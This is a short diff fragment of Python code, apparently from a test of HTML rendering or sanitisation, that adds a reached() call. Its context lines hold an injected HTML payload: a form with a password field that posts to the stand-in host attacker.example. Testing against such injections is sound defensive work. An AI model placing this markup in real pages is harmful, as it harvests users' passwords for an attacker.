@@ -14,6 +14,7 @@ display(
         + "<form action=http://attacker.example><input type=password name=p></form><input id='softmax_rows' class='score' value='3'>"
     )
 )
+reached()
 page
 """
 
